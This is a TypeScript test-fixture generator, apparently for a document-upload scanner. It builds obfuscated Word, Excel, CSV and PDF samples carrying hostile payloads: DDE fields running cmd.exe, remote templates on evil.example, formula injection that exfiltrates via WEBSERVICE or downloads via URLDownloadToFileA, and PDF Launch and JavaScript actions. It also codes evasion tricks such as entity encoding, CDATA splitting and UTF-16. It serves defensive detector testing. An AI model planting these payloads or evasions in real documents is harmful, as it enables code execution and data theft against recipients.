import type { FindingCode } from "../../src/intake/inspection/finding";
import { docxParts, names, xlsxParts } from "./office-samples";
import { objectStream, pdfWith } from "./pdf-samples";
import { followedBy, pdf } from "./samples";
import { zip } from "./zip-samples";

/** A number in [0, 1). */
type Random = () => number;

const pick = <Item>(random: Random, items: readonly [Item, ...Item[]]): Item =>
  items[Math.floor(random() * items.length)] ?? items[0];

const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

/** A reference to a character, with leading zeros. */
function reference(random: Random, character: string): string {
  const code = character.codePointAt(0) ?? 0;
  const zeros = "0".repeat(Math.floor(random() * 9));
  return random() < 0.5 ? `&#${zeros}${code};` : `&#x${zeros}${code.toString(16)};`;
}

/** The value of an attribute. */
const spelledValue = (random: Random, text: string) =>
  Array.from(text, (each) => (random() < 0.3 || each < " " ? reference(random, each) : escaped(each))).join("");

/** What may stand between elements, and does not count. */
const misc = ["", "<!-- a -->", "<?a <!-- ?>", "<?a <![CDATA[ ?>", "<!---->"] as const;
const aside = ["", "", "", "", ...misc, "<![CDATA[]]>"] as const;

/** Text of an element, with references, CDATA sections, comments and processing instructions within it. */
function spelledText(random: Random, text: string): string {
  const plain = (each: string) => (random() < 0.2 ? `<![CDATA[${each}]]>` : escaped(each));
  return Array.from(
    text,
    (each) => (random() < 0.3 ? reference(random, each) : plain(each)) + pick(random, aside),
  ).join("");
}

/** A part in UTF-8 or UTF-16. */
function encoded(random: Random, xml: string): string | Uint8Array {
  if (random() < 0.8) return xml;
  const utf16 = Buffer.from(`\ufeff${xml.replace("UTF-8", "UTF-16")}`, "utf16le");
  return new Uint8Array(random() < 0.5 ? utf16 : utf16.swap16());
}

const blanks = (random: Random, most: number) =>
  Array.from({ length: Math.floor(random() * most) }, () => pick(random, [" ", "\t", "\u00a0", "\n"])).join("");

const randomCase = (random: Random, text: string) =>
  text.replace(/[a-z]/gi, (letter) => (random() < 0.5 ? letter.toLowerCase() : letter.toUpperCase()));

/** Makes a file of a payload. */
type Make = (payload: string, random: Random) => Uint8Array;

/** What would act, by what is found, and what is allowed in its place. */
export interface Family {
  readonly hostile: Readonly<Partial<Record<FindingCode, readonly string[]>>>;
  readonly allowed: readonly [string, ...string[]];
  readonly make: Make;
}

const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const strictWord = "http://purl.oclc.org/ooxml/wordprocessingml/main";
const sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const prefixes = ["w", "W_1.2", "é", "字"] as const;

/** A Word field: in one element, or between marks in runs of several kinds, within another field, in any part. */
const field: Family = {
  hostile: {
    field: [
      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
      "DDE cmd x",
      'INCLUDEPICTURE "http://evil.example/a.png" \\d',
      'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" A1',
      "MACROBUTTON AutoExec x",
      'HYPERLINK "javascript:alert(1)"',
      'HYPERLINK \\o "a" "ms-msdt:/id PCWDiagnostic"',
      "HYPERLINK \\\\\\\\evil\\\\share",
      'HYPERLINK "file://evil.example/share/a.exe"',
      '"DDE" cmd',
    ],
  },
  allowed: [
    "PAGE",
    'TOC \\o "1-3" \\h',
    'DATE \\@ "d MMMM"',
    'HYPERLINK "https://a.example" \\o "a"',
    'HYPERLINK \\l "_DDE_1"',
    "MERGEFIELD Nama",
    "= 3 * 4",
    "XE a",
  ],
  make(payload, random) {
    const prefix = pick(random, prefixes);
    const tag = (name: string, attributes = "", content = "") => {
      const full = `${prefix}:${name}`;
      return `<${full} ${attributes}>${content}</${full}>`;
    };
    const mark = (type: string) => tag("fldChar", `${prefix}:fldCharType="${type}"`);
    const code = blanks(random, 400) + payload.replace(/^[A-Z]+/, (name) => randomCase(random, name));
    const holder = pick(random, ["instrText", "delInstrText", "t"]);
    const cut = Math.floor(random() * code.length);
    const run = (text: string) => tag("r", "", tag(holder, "", spelledText(random, text)));
    const whole = `${mark("begin")}${run(code.slice(0, cut))}${run(code.slice(cut))}`;
    const complex = `${whole}${random() < 0.7 ? mark("separate") : ""}${random() < 0.9 ? mark("end") : ""}`;
    const nested = `${mark("begin")}${tag("instrText", "", "IF 1 = 1 ")}${complex}${mark("end")}`;
    const decoy = `${prefix}:dirty="a>b" xmlns:a="urn:a" a:instr="PAGE"`;
    const simple = tag("fldSimple", `${decoy} ${prefix}:instr="${spelledValue(random, code)}"`);
    const part = pick(random, ["header", "footer", "footnotes", "endnotes", "comments"]);
    const name = pick(random, [`word/${part}1.xml`, `word/media/${part}.png`, `a/${part}.dat`]);
    const namespaces = `xmlns:${prefix}="${pick(random, [word, word, strictWord])}"`;
    const xml = `${declaration}${pick(random, misc)}${tag(part, namespaces, tag("p", "", pick(random, [simple, complex, nested])))}`;
    return zip(
      docxParts({ parts: { [name]: encoded(random, xml) }, overrides: { [`/${name}`]: names.wordPartType(part) } }),
      { stored: true },
    );
  },
};

const officeTypes = [
  "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
  "http://purl.oclc.org/ooxml/officeDocument/relationships",
] as const;

/** A relationship: its type, mode and target, a blank between each. */
const relationship: Family = {
  hostile: {
    remote: [
      "attachedTemplate External http://evil.example/a.dotm",
      "attachedTemplate External file://evil.example/share/a.dotm",
      "attachedTemplate External file:///\\\\evil\\a.dotm",
      "image External http://evil.example/a.png",
      "externalLink Internal externalLink1.xml",
      "externalLinkPath External file:///\\\\evil\\share\\a.xlsx",
      "connections Internal connections.xml",
      "header External http://evil.example/header.xml",
      "oleObject External http://evil.example/a.hta",
      "unknown External http://evil.example/a",
    ],
    link: [
      "hyperlink External javascript:alert(1)",
      "hyperlink External ms-msdt:/id",
      "hyperlink External \\\\evil\\share",
      "hyperlink External file://evil.example/share",
      "hyperlink External file://///evil/share",
    ],
    embedded: ["aFChunk Internal chunk.rtf"],
    script: ["control Internal activeX1.xml"],
    macro: ["vbaProject Internal a.bin"],
  },
  allowed: [
    "hyperlink External https://a.example/",
    "hyperlink External mailto:a@a.example",
    "hyperlink External tel:+6221",
    "hyperlink External file:///C:\\Users\\a.docx",
    "hyperlink External #judul",
    "hyperlink External lain.docx",
    "hyperlink External about:blank",
    "image External file:///C:/Users/SITI/AppData/Local/Temp/clip_image001.jpg",
    "attachedTemplate External file://localhost/Users/siti/Resume.dotx",
    "styles Internal styles.xml",
    "attachedTemplate External file:///C:\\Users\\Siti\\Resume.dotx",
    "attachedTemplate External Normal.wpt",
    "attachedTemplate External %7bE308A17D-0000-4000-8000-000000000000%7dtf10002038.dotx",
    "image External cid:image003.jpg@01CEEB77.306D2D20",
    "hyperlink External file:/C:/Users/Siti%20A/Desktop/CV.docx",
  ],
  make(payload, random) {
    const [type = "", mode = "", ...target] = payload.split(" ");
    const values = {
      Id: "rId9",
      Type: `${pick(random, officeTypes)}/${type}`,
      Target: target.join(" "),
      ...((mode !== "Internal" || random() < 0.5) && { TargetMode: mode }),
    };
    const attributes = Object.entries(values)
      .toSorted(() => random() - 0.5)
      .map(([name, value]) => `${name}="${spelledValue(random, value)}"`);
    const prefix = pick(random, prefixes);
    const uri = "http://schemas.openxmlformats.org/package/2006/relationships";
    const element = `<${prefix}:Relationship ${attributes.join(pick(random, [" ", "\n", "\t\t"]))}/>`;
    const xml = `${declaration}${pick(random, misc)}<${prefix}:Relationships xmlns:${prefix}="${uri}">${pick(random, misc)}${element}</${prefix}:Relationships>`;
    const name = pick(random, ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "word/_RELS/a.RELS"]);
    return zip(docxParts({ parts: { [name]: encoded(random, xml) } }), { stored: true });
  },
};

const formulas = [
  "cmd|'/c calc'!A0",
  "calc|a!b",
  'WEBSERVICE("http://evil.example/"&A1)',
  'HYPERLINK("file:"&"//evil.example/share","tekan")',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
  'DDE("soffice","a.ods","a")',
  "INDIRECT(\"'[\\\\evil\\a.xlsx]S'!A1\")",
  "'\\\\evil\\share\\[a.xlsx]S'!A1",
  "'http://evil.example/[a.xlsx]S'!A1",
  "'file:///c:/a.ods'#$S.A1",
  "[1]S!A1",
  "'[1]S 2'!A1",
  'HYPERLINK("javascript:alert(1)","x")',
  'IMPORTXML("http://evil.example","//a")',
  'RTD("a.b",,"c")',
  'REGISTER.ID("a","b")',
  'FILTERXML("<a/>","//a")',
  '_xlfn.IMAGE("http://evil.example/a.png")',
  "'a|b'!A1",
] as const;

/** A formula with something before it that spreadsheets read on from. */
function spelledFormula(random: Random, payload: string): string {
  const spaced = payload.replace("(", `${blanks(random, 4).replaceAll("\u00a0", " ")}(`);
  const named = spaced.replace(/^[\w.]+(?=\s*\()/, (name) => randomCase(random, name));
  const before = pick(random, [
    "",
    "1+",
    "A1*",
    "SUM(1,2)+",
    "IF(1,",
    '"a""b"&',
    "-(",
    '"=A1|"&',
    "ROUND(A1*1.11,-2)+",
  ]);
  const open = (before.match(/\(/g)?.length ?? 0) - (before.match(/\)/g)?.length ?? 0);
  return before + named + ")".repeat(open);
}

/** A formula in a workbook: in a cell, a rule, a name or an attribute. */
const formula: Family = {
  hostile: { formula: formulas },
  allowed: [
    "SUM(A1:B9)",
    "VLOOKUP(A1,$A$1:$B$9,2,FALSE)*_xlfn.XLOOKUP(2,$A:$A,$1:$2)+IF(1<>2,1.5E3,-3%)",
    "Tarif!A1%",
    "'Kelas \"I\"'!A1+'Obat & Generik (2026)'!A1+'Jum''at'!B2",
    "SUM(Tarif[Harga])*Tarif[[#This Row],[Harga satuan]]",
    "#REF!+#REF!$A$1+IFERROR(#N/A,0)",
    'A1&"|"&"it\'s"&B1&"!"',
    "_xlfn.STDEV.S(A2:A3)+SECOND(A2)+PI()+FV(1,2,3)+AGGREGATE(9,5,A2:A9)+RAND()",
    'INDIRECT("Tarif!A"&ROW())+_xlfn.DISPIMG("ID_1",1)',
    'HYPERLINK("https://a.example/tarif","lihat")&HYPERLINK("#Tarif!A1")',
    'HYPERLINK("https://wa.me/"&B2,"tanya")',
    "SUM('Jan 1:Des 31'!A1)",
  ],
  make(payload, random) {
    const code = spelledFormula(random, payload);
    const behind = random() < 0.3 ? `'a"b'!A1+${code}+'c"d'!B2` : code;
    const text = spelledText(random, behind);
    const content = pick(random, [
      `<a:row r="1"><a:c r="A1"><a:f>${text}</a:f></a:c></a:row>`,
      `<a:dataValidation><a:formula1>${text}</a:formula1></a:dataValidation>`,
      `<a:cfRule><a:formula>${text}</a:formula></a:cfRule>`,
      `<a:ext><b:f xmlns:b="http://schemas.microsoft.com/office/excel/2006/main">${text}</b:f></a:ext>`,
      `<a:definedName name="a">${text}</a:definedName>`,
      `<a:cfvo type="formula" val="${spelledValue(random, behind)}"/>`,
      `<a:cacheField formula="${spelledValue(random, behind)}"/>`,
      `<a:sp macro="" textlink="${spelledValue(random, behind)}"/>`,
    ]);
    const xml = `${declaration}${pick(random, misc)}<a:worksheet xmlns:a="${sheet}">${pick(random, misc)}${content}</a:worksheet>`;
    return zip(xlsxParts({ parts: { "xl/worksheets/sheet1.xml": encoded(random, xml) } }), { stored: true });
  },
};

/** A formula in a cell of a CSV file. */
const cell: Family = {
  hostile: { formula: [...formulas, '1+\nWEBSERVICE("http://evil.example")', "1+\ncmd|'/c calc'!A0"] },
  allowed: ["SUM(A1:B9)", "A1%", '"a"&A1', "IF(A1>1,2,3)"],
  make(payload, random) {
    const separator = pick(random, [",", ";", "\t", "^"]);
    const sign = pick(random, ["=", "=", "+", "-", "@", "＝", "＋"]);
    const lead = pick(random, ["", " ", " ".repeat(9), "\u00a0", '"', "\ufeff"]) + sign;
    const long = random() < 0.1 ? `"${"a".repeat(1_500)}"&` : "";
    const code = `${lead}${long}${spelledFormula(random, payload)}`;
    const needsQuotes = code.includes(separator) || /["\n]/.test(code) || random() < 0.3;
    const written = needsQuotes ? `"${code.replaceAll('"', '""')}"` : code;
    const end = pick(random, ["\n", "\r\n", "\r"]);
    const row = (...cells: readonly string[]) => cells.join(separator) + end;
    const first = separator === "^" ? `sep=^${end}` : "";
    const others = ["a", '"b ""c"""', `"d${separator}e"`, "-10 mg (strip)", "+62 21 5010", `"f${end}g"`, "5"] as const;
    const fill = () => pick(random, others);
    return new TextEncoder().encode(
      `${first}${row("x", fill(), fill())}${row(fill(), written, fill())}${row(fill(), fill(), fill())}`,
    );
  },
};

const hexLetter = (letter: string) => `#${letter.charCodeAt(0).toString(16)}`;

/** Names of a PDF, some of their letters in hex, and comments before some. */
const spelledNames = (random: Random, object: string) =>
  object.replace(/%.*\n|\/[A-Za-z]+/g, (name) => {
    // A comment within a comment would end it.
    if (name.startsWith("%")) return name;
    const comment = pick(random, ["", "", "", "% >> (\n", "%/S /URI\r"]);
    return comment + name.replace(/\w/g, (letter) => (random() < 0.2 ? hexLetter(letter) : letter));
  });

/** An object of a PDF: in its table, packed, or where only a reader that rebuilds the table finds it. */
const pdfObject: Family = {
  hostile: {
    script: [
      "<< /OpenAction << /S /JavaScript /JS (x) >> >>",
      "<< /Names << /JavaScript 3 0 R >> >>",
      "/JavaScript",
      "<< /A ] /S /JavaScript >>",
      "<< /A (\\() /S /JavaScript /B () >>",
      "<< /Annots [<< /Subtype /RichMedia >>] >>",
      "<< /Type /3D /OnInstantiate 6 0 R >>",
      "<< /S /Rendition /OP 0 >>",
      "<< /AA 3 0 R >>",
      "<< /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
    ],
    program: ["<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>", "<< /S /Launch /F (cmd.exe) >>"],
    embedded: [
      "<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
      "<< /Type /EmbeddedFile >>",
      "<< /Annots [<< /Subtype /FileAttachment /FS 3 0 R >>] >>",
      "<< /S /GoToE /T << /R /C /N (a.pdf) >> >>",
    ],
    form: [
      "<< /AcroForm << /Fields [] /XFA 3 0 R >> >>",
      "<< /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>",
      "<< /S /ImportData /F (a.fdf) >>",
    ],
    remote: [
      "<< /OpenAction << /S /URI /URI (https://evil.example) >> >>",
      "<< /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >> >>",
      "<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 3 0 R >> >>",
      "<< /OpenAction << /S 3 0 R /URI 3 0 R >> >>",
      "<< /OpenAction << /D [1 2 3 4 5 6 << >> 7] /S /URI >> >>",
    ],
    link: [
      "<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>",
      "<< /S /GoToR /F << /F (a.pdf) /UF <feff005c005c006500760069006c005c0061> >> >>",
      "<< /S /GoToR /F << /DOS (\\134\\134evil\\134a.pdf) >> >>",
      "<< /S /URI /URI (\\\\\\\\evil\\\\share) >>",
      "<< /S /URI /URI <66696c653a2f2f6576696c2e6578616d706c652f61> >>",
      "<< /Subtype /Image /F (\\\\\\\\evil\\\\a.jpg) >>",
    ],
  },
  allowed: [
    "<< /OpenAction [3 0 R /XYZ null null 0] >>",
    "<< /OpenAction 3 0 R >>",
    "<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
    "<< /Annots [<< /Subtype /Link /A << /S /URI /URI (https://a.example/Launch/JavaScript \\)/AA) >> >>] >>",
    "<< /Annots [<< /Subtype /Link /A << /S /GoToR /F (lain.pdf) /D [0 /Fit] >> >>] >>",
    "<< /S /GoToR /F << /F (C:\\\\Tarif\\\\a.pdf) /UF <feff0061> >> >>",
    "<< /S /URI /URI <2f2f7777772e612e6578616d706c65> >>",
    "<< /Subtype /Widget /F 4 /TU (\\\\\\\\) >>",
    "<< /AcroForm << /Fields [<< /FT /Tx /T (nama) /V () >>] >> >>",
    "<< /Title (a\\(b) /Names << /EmbeddedFiles << /Names [] >> >> >>",
    "<< % /JavaScript\n/A#20B [ /C(d)/E<66> ] >>",
  ],
  make(payload, random) {
    const object = spelledNames(random, payload);
    const behind = (start: string) => followedBy(pdf, `8 0 obj\n${start}\n9 0 obj\n${object}\nendobj\n`);
    const inStream = (start: string) => {
      return {
        ...objectStream([
          [7, start],
          [8, object],
        ]),
        entries: `/Kind /Other /N 2 /First 8 /Filter /FlateDecode`,
      };
    };
    return pick(random, [
      () => pdfWith({ 5: object }),
      () => pdfWith({ 5: object }, { packed: true }),
      () => behind(""),
      () => behind("( "),
      () => behind("<< /Length 9 >>\nstream\n"),
      () => pdfWith({ 5: { entries: "", data: new TextEncoder().encode(`7 0 obj ${object} endobj`) } }),
      () => pdfWith({ 5: inStream("(a") }),
    ])();
  },
};

export const families = { field, relationship, formula, cell, pdfObject } as const;
